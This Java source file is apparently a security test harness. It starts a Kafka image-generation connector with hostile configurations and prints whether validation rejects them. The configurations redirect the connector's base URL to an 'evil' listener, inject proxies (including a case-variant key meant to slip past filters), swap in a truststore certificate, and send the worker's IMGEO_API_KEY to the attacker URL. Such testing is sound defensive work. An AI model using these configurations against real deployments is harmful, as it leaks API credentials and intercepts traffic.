package club.imgeo.attack;

import club.imgeo.kafka.ImgeoSinkConnector;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.net.ssl.TrustManagerFactory;
import javax.net.ssl.X509TrustManager;
import org.apache.kafka.common.config.ConfigValue;

/** A worker with a key in its environment. It validates and starts one attacker's connector after the other. */
final class Victim {
    private final String bootstrapServers;

    private Victim(String bootstrapServers) {
        this.bootstrapServers = bootstrapServers;
    }

    /** @param arguments the listener's address, host and port of a proxy, and the broker */
    public static void main(String[] arguments) throws GeneralSecurityException {
        String evil = arguments[0];
        String proxy = arguments[1];
        Victim victim = new Victim(arguments[2]);
        victim.run("operator", Map.of());
        victim.run("address", Map.of("imgeo.base.url", evil + "/address"));
        victim.run("prefix", Map.of("imgeo.base.url", evil + "/operator/gateway2"));
        victim.run("host", Map.of("imgeo.base.url", evil));
        String operators = evil + "/operator/gateway";
        victim.run("proxy", Map.of("imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
        victim.run("PROXY", Map.of("imgeo.base.url", operators, "camel.component.imgeo.PRO-XY", proxy));
        victim.run("trust", Map.of("imgeo.ssl.truststore.certificates", anyCertificate()));
        String key = System.getenv("IMGEO_API_KEY"); // as a worker resolves ${env:IMGEO_API_KEY}
        victim.run("reference", Map.of("imgeo.api.key", key, "imgeo.base.url", evil + "/reference"));
        victim.run(
                "reference-proxy",
                Map.of("imgeo.api.key", key, "imgeo.base.url", operators, "camel.component.imgeo.proxy", proxy));
        victim.run("operators-reference", Map.of("imgeo.api.key", key, "imgeo.base.url", operators));
        System.exit(0); // whatever a task has left running
    }

    /** Returns one that the JVM trusts, as PEM text. */
    private static String anyCertificate() throws GeneralSecurityException {
        TrustManagerFactory factory = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        factory.init((KeyStore) null);
        X509TrustManager manager = (X509TrustManager) factory.getTrustManagers()[0];
        byte[] encoded = manager.getAcceptedIssuers()[0].getEncoded();
        return "-----BEGIN CERTIFICATE-----\n" + Base64.getMimeEncoder().encodeToString(encoded)
                + "\n-----END CERTIFICATE-----";
    }

    private void run(String attack, Map<String, String> options) {
        Map<String, String> config = new HashMap<>(Map.of(
                "name",
                "victim-" + attack,
                "connector.class",
                ImgeoSinkConnector.class.getName(),
                "topics",
                "prompts",
                "imgeo.model",
                "black-forest-labs/flux-schnell",
                "imgeo.result.topic",
                "victim-images",
                "imgeo.kafka.bootstrap.servers",
                bootstrapServers));
        config.putAll(options);
        List<String> objections = new ImgeoSinkConnector()
                .validate(config).configValues().stream()
                        .map(ConfigValue::errorMessages)
                        .flatMap(List::stream)
                        .toList();
        System.out.println("validation of " + attack + ": " + objections);
        try {
            LoneTask.start(config).close();
            System.out.println("task of " + attack + ": started");
        } catch (RuntimeException e) {
            System.out.println("task of " + attack + ": " + e);
        }
    }
}
